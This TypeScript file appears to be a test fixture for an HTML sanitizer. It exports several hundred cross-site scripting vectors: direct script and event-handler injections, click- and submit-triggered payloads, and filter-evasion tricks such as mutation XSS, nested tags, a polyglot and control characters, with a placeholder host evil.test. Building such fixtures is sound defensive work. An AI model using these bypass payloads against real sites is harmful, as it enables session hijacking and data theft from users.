// Markup that runs, loads or navigates when it is put into a page raw, or tries to by confusing a filter.

/** Run at once or load at once. `//evil.test` and `x` are requests the test counts. */
const DIRECT = String.raw`
<script>alert(1)</script>
<script src=//evil.test/x.js></script>
<SCRIPT SRC=//evil.test/xss.js?< B >
<script/src=//evil.test/a></script>
<script >alert(1)</script >
<script>alert(1)//
<<SCRIPT>alert("XSS");//\<</SCRIPT>
<img src=x onerror=alert(1)>
<IMG SRC=x ONERROR=alert(1)>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img/src="x"/onerror="alert(1)">
<img src=x onerror=alert(1)//
<img src='x'onerror='alert(1)'>
<img """><img src=x onerror=alert(1)>">
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;1&#41;">
<img src=x onerror=&#x61;lert(1)>
<img srcset="x 1x" onerror=alert(1)>
<img srcset=//evil.test/a.png>
<img src=//evil.test/a.png>
<img lowsrc=//evil.test/a dynsrc=//evil.test/b src=//evil.test/c>
<img alt="<x" title="/><img src=x onerror=alert(1)>">
<image src=x onerror=alert(1)>
<image/src/onerror=alert(1)>
<img src=1 href=1 onerror="alert(1)"></img>
<img src onerror=alert(1)>
<img src=x onload=1 onerror = alert(1) >
<picture><source srcset=//evil.test/a><img></picture>
<picture><img srcset="//evil.test/a"></picture>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<video poster=//evil.test/p></video>
<video src=//evil.test/v autoplay></video>
<audio src=x onerror=alert(1)></audio>
<audio src onloadstart=alert(1)>
<audio autoplay src=//evil.test/a></audio>
<video><track default src=//evil.test/t></video>
<video onloadstart=alert(1)><source></video>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
<iframe src=//evil.test/f></iframe>
<iframe onload=alert(1)></iframe>
<iframe/onload=alert(1)>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<frameset onload=alert(1)><frame src=//evil.test/f></frameset>
<embed src=//evil.test/e>
<embed src="javascript:alert(1)">
<embed type="image/svg+xml" src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">
<object data=//evil.test/o></object>
<object data="javascript:alert(1)"></object>
<object data=x onerror=alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object type="text/html" data=//evil.test/h><param name=src value=//evil.test/i></object>
<object><param name=movie value=//evil.test/m><embed src=//evil.test/n></object>
<link rel=stylesheet href=//evil.test/c.css>
<link rel=preload as=image href=//evil.test/i>
<link rel=preload as=image imagesrcset="//evil.test/i 1x">
<link rel=prefetch href=//evil.test/p>
<link rel=icon href=//evil.test/favicon>
<link rel=modulepreload href=//evil.test/m.js>
<link rel=preconnect href=//evil.test>
<meta http-equiv=refresh content="0;url=//evil.test/r">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<META HTTP-EQUIV='refresh' CONTENT='0; /gone'>
<style>@import '//evil.test/s.css';</style>
<style>body{background:url(//evil.test/bg)}</style>
<style>*{background-image:url(/bg2)}
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)"></b>
<div style="background:url(//evil.test/d);width:9px;height:9px">a</div>
<b style='background-image:image-set("//evil.test/is" 1x)'>x</b>
<p style="list-style:url(//evil.test/l);display:list-item">x</p>
<div/style=background:url(//evil.test/ds)>x</div>
<x style="border-image:url(//evil.test/bi);display:block;border:1px solid">x</x>
<body background=//evil.test/b>
<body onload=alert(1)>
<table background=//evil.test/t><tr><td>x</td></tr></table>
<table><td background=//evil.test/td>x</td></table>
<table><tr background=//evil.test/tr><td>x</table>
<input type=image src=//evil.test/ii>
<input type=image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<button autofocus onfocus=alert(1)>x</button>
<a href=x autofocus onfocus=alert(1) tabindex=1>x</a>
<x onfocus=alert(1) tabindex=1 autofocus>x</x>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><image href=//evil.test/si></image></svg>
<svg><image xlink:href=//evil.test/sx onerror=alert(1)></image></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'></svg>#x"></use></svg>
<svg><feImage href=//evil.test/fe></feImage></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set onbegin=alert(1) attributeName=x to=1></svg>
<svg><style>@import '//evil.test/svg.css';</style></svg>
<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><rect width=9 height=9 fill="url(//evil.test/f.svg#a)"></rect></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>
<math><mi><img src=x onerror=alert(1)></mi></math>
<details open ontoggle=alert(1)>x</details>
<details ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<bgsound src=//evil.test/bg><img src=x onerror=alert(1)>
<isindex type=image src=1 onerror=alert(1)><img src=x onerror=alert(1)>
<portal src=//evil.test/p></portal><img src=//evil.test/pp>
<fencedframe src=//evil.test/p></fencedframe><img src=//evil.test/pp>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<div><template shadowrootmode=open><style>@import '/shadow.css'</style></template></div>
<base href=//evil.test/><img src=relative>
<layer src=//evil.test/l></layer><img src=//evil.test/layer>
<xml src=//evil.test/x></xml><img src=//evil.test/xml>
<keygen autofocus onfocus=alert(1)>
<p is=page-p>x</p>
<form name=querySelector></form>
<img name=getElementById>
<form id=createElement>
<object name=querySelector></object>
<embed name=getElementById>
<input type=image src=//evil.test/ii formaction=x>
<body style=background:url(//evil.test/bs)>
<html manifest=//evil.test/m><img src=x>
<b style="background:u\72l(//evil.test/esc)">x</b>
<b style="background:&#117;rl(//evil.test/ent)">x</b>
<b style="-webkit-mask:url(//evil.test/mask)">x</b>
<b style="cursor:url(//evil.test/cur),auto">x</b>
<b style="content:url(//evil.test/cont)">x</b>
<b style="filter:url(//evil.test/f.svg#f)">x</b>
<ul style="list-style-image:url(//evil.test/li)"><li>x</ul>
<video><source src=//evil.test/vs></video>
<audio><source src=//evil.test/as></audio>
<picture><source srcset="//evil.test/ps 1x" media=all><img alt=x></picture>
<iframe srcdoc='<img src=//evil.test/sd>'>
<a attributionsrc=//evil.test/as href=x>x</a>
<img attributionsrc=//evil.test/as src=x>`;

/** Do their harm when they are clicked, focused, hovered or submitted. */
const POKED = `
<a href="javascript:alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=//evil.test/a>x</a>
<a href>x</a>
<a href="">x</a>
<a href=#hash>x</a>
<a href=x target=_blank>x</a>
<a/href=//evil.test/slash>x</a>
<a href=//evil.test/n
<a href=# ping=//evil.test/ping>x</a>
<a href=/x download>x</a>
<a onclick=alert(1)>x</a>
<x onclick=alert(1)>x
<b onmouseover=alert(1)>x</b>
<b/onmouseover=alert(1)>x</b>
<b onpointerenter = "alert(1)">x</b>
<b onwheel=alert(1)>x</b>
<b oncontextmenu=alert(1)>x</b>
<b onbeforeinput=alert(1) contenteditable>x</b>
<b a=1 onclick=alert(1) a=2>x</b>
<b title=">" onclick=alert(1)>x</b>
<b title='>' onclick=alert(1)>x</b>
<b =onclick=1 onclick=alert(1)>x</b>
<b "onclick=1" onclick=alert(1)>x</b>
<b <onclick=1 onclick=alert(1)>x</b>
<b/ / /onclick=alert(1)>x</b>
<b
onclick=alert(1)
>x</b>
<b	onclick	=	alert(1)>x</b>
<b onclick
=
'alert(1)'>x</b>
<b onclick='alert(1)'x>x</b>
<b x=y"onclick=z onclick=alert(1)>x</b>
<https://evil.test onclick=alert(1)>x
<me@evil.test/onclick=alert(1)>x
<a:b onclick=alert(1)>x</a:b>
<foo-bar onclick=alert(1)>x</foo-bar>
<ß><b onclick=alert(1)>x</b>
<p<b onclick=alert(1)>x
<form action=//evil.test/f><button>x</button></form>
<form action=//evil.test/f><input type=submit></form>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction=//evil.test/fa>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form><input type=submit formaction=javascript:alert(1)></form>
<form><button>x</button></form>
<form><button type=submit>x</form>
<form><input type=submit></form>
<FORM><BUTTON>x</BUTTON></FORM>
<form><input type=image></form>
<form method=post target=_blank><button>x</button></form>
<button form=f>x</button><form id=f></form>
<form id=f></form><input type=submit form=f>
<form onsubmit=alert(1)><button>x</button></form>
<form><table><form><button>x</button></table></form>
<div><form></div><button>x</button>
<map><area href=javascript:alert(1)></map>
<svg><a href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>
<math><a href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<button popovertarget=p>x</button><div popover id=p ontoggle=alert(1)>y</div>
<button popovertarget=p>x</button><b popover id=p onbeforetoggle=alert(1)>y</b>
<button command=show-modal commandfor=d>x</button><dialog id=d ontoggle=alert(1)>y</dialog>
<label for=page-button>x</label>
<button form=page-form>x</button>
<input type=submit form=page-form>
<input form=page-form formaction=/other type=submit>
<a href="?x">x</a>
<a href="mailto:x@evil.test">x</a>
<a href=/frame/0>x</a>
<a href="x"><b title='>'>x</b></a>
<map name=m><area href=//evil.test/area></map>
<button type=submit formaction=//evil.test/b form=page-form>x</button>
<label><b onclick=alert(1)>x</b></label>
<select onchange=alert(1)><option>1<option>2</select>
<input oninput=alert(1)>
<input type=checkbox onchange=alert(1)>
<video controls onclick=alert(1)></video>
<details><summary onclick=alert(1)>x</summary></details>
<div draggable=true ondragstart=alert(1)>x</div>
<div onscrollend=alert(1) ontouchstart=alert(1) onkeydown=alert(1) tabindex=0>x</div>`;

/** Written against filters: nested, split, mutated by a second parse, hidden behind other parser states. */
const EVASIVE = String.raw`
<scr<script>ipt>alert(1)</scr</script>ipt><img src=x onerror=alert(1)>
<<img src=x onerror=alert(1)>img src=x onerror=alert(1)>
<<b onclick=1>img src=x onerror=alert(1)>
<im<!-- -->g src=x onerror=alert(1)>
<im<script></script>g src=x onerror=alert(1)>
<i<script>x</script>mg src=x onerror=alert(1)>
<<script>x</script>img src=x onerror=alert(1)>
<im<?php ?>g src=x onerror=alert(1)>
<im<![CDATA[x]]>g src=x onerror=alert(1)>
<<<<<img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<!-- > --><img src=x onerror=alert(1)>
<!--[if gte IE 4]><img src=x onerror=alert(1)><![endif]--><img src=x onerror=alert(1)>
<! --><img src=x onerror=alert(1)>
<!x><img src=x onerror=alert(1)>
<!DOCTYPE x "<img src=x onerror=alert(1)>
<![CDATA[><img src=x onerror=alert(1)>]]>
<![CDATA[<img src=x onerror=alert(1)>]]><img src=x onerror=alert(1)>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?><img src=x onerror=alert(1)>
</><img src=x onerror=alert(1)>
</ ><img src=x onerror=alert(1)>
</3><img src=x onerror=alert(1)>
</b a="><i title="><img src=x onerror=alert(1)>
</b a='><i title='><img src=x onerror=alert(1)>
<b a="</b><img src=x onerror=alert(1)>
<b a='"'><img src=x onerror=alert(1) title="'">
<b a="'"><img src=x onerror=alert(1) title='"'>
<title><b title="</title><img src=x onerror=alert(1)>"></b>
<textarea><b title="</textarea><img src=x onerror=alert(1)>"></b>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><b title="</noembed><img src=x onerror=alert(1)>">
<noframes><b title="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<style><p title="</style><img src=x onerror=alert(1)>">
<script><p title="</script><img src=x onerror=alert(1)>">
<script><!--<script></script><img src=x onerror=alert(1)>--></script><img src=x onerror=alert(1)>
<plaintext><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>
<select><style><b title="</style></select><img src=x onerror=alert(1)>"></b>
<select><template><style><b title="</style></template></select><img src=x onerror=alert(1)>">
<select><math><mtext><img src=x onerror=alert(1)></mtext></math></select>
<select><iframe></select><img src=x onerror=alert(1)>
<select><textarea></select><img src=x onerror=alert(1)>
<table><img src=x onerror=alert(1)>
<table><tr><td><svg><desc><td></desc><img src=x onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img src="</style><img src=x onerror=alert(1)//">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"><img src=x onerror=alert(1)>
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<math><mi><style><![CDATA[</style><img src=x onerror=alert(1)>]]></mi></math>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<svg><![CDATA[<b title="]]><img src=x onerror=alert(1)>">
<svg><title><style><!--</title><img src=x onerror=alert(1)>-->
<math><annotation-xml encoding="text/html"><style><b title="</style><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<noscript><!--</noscript><img src=x onerror=alert(1)>-->
<a><a><table><a><img src=x onerror=alert(1)></a></table>
<b><p></b><img src=x onerror=alert(1)></p>
<option><style></option></select><b><img src=xx: onerror=alert(1)></style></option>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing><img src=x onerror=alert(1)>
<p title="a"b"onclick=x"><img src=x onerror=alert(1)>
<svg/onload=alert(1)//<svg/onload=alert(1)//
jaVasCript:/*-/*\x60/*\\x60/*'/*"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>
"><img src=x onerror=alert(1)>
'><script>alert(1)</script><img src=x onerror=alert(1)>
--><img src=x onerror=alert(1)>
]]><img src=x onerror=alert(1)>
*/</style><img src=x onerror=alert(1)>
</title></textarea></script><img src=x onerror=alert(1)>
<noscript><b title="&lt;/noscript>&lt;img src=x onerror=alert(1)>"></b></noscript><img src=x onerror=alert(1)>
<textarea><b title="&lt;/textarea>&lt;img src=x onerror=alert(1)>"></b></textarea><img src=x onerror=alert(1)>
<b title="x onclick=alert(1) <b title="x onclick=alert(1)>x</b>
<b title='<img src=x onerror=alert(1)>' onclick=alert(1)>x</b>
<a title="</a><svg onload=alert(1)>" href=x>x</a>
<p class=" style=background:url(//evil.test/q)<img src=x onerror=alert(1)>
<b onclick=
alert(1)>x</b>
<a
href=x>x</a>
if a<b then <img src=x onerror=alert(1)> c>d
a<b title="x<img src=x onerror=alert(1)>
List<Image src=x onerror=alert(1)>
x<y && onclick=alert(1) > z <b onclick=alert(1)>`;

/** A vector begins with the line that opens it; lines that only go on with it are joined to it. */
function split(list: string): string[] {
  const vectors: string[] = [];
  for (const line of list.trim().split('\n')) {
    if (/^(?:onclick=|href=|alert|>|=|'alert)/.test(line)) vectors.push(`${vectors.pop()}\n${line}`);
    else vectors.push(line);
  }
  return vectors;
}

export const XSS_VECTORS: readonly string[] = [
  ...split(DIRECT),
  ...split(POKED),
  ...split(EVASIVE),
  '<input type="text" value="`"><img src=x onerror=alert(1)>',
  '<img src="x` onerror=alert(1)"<img src=x onerror=alert(1)>',
  // What a list of lines cannot hold: form feeds, carriage returns and controls inside of tags.
  '<img\fsrc=x\fonerror=alert(1)>',
  '<img\r\nsrc=x\ronerror=alert(1)>',
  '<im\u0001g src=x onerror=alert(1)>',
  '<img src=x on\u0085error=alert(1)>',
  '<\u202eimg src=x onerror=alert(1)>',
  '<img src=x onerror\u000b=alert(1)>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<\r\nimg src=x onerror=alert(1)><img\u000csrc=x onerror=alert(1)>',
  `${'<b '.repeat(50)}<img src=x onerror=alert(1)>`,
  `${'<'.repeat(40)}img src=x onerror=alert(1)>`,
  `${'<b onclick=1'.repeat(30)}${'>'.repeat(30)}<img src=x onerror=alert(1)>`,
  `${'<<b onclick=1>'.repeat(9)}img src=x onerror=alert(1)>`,
];
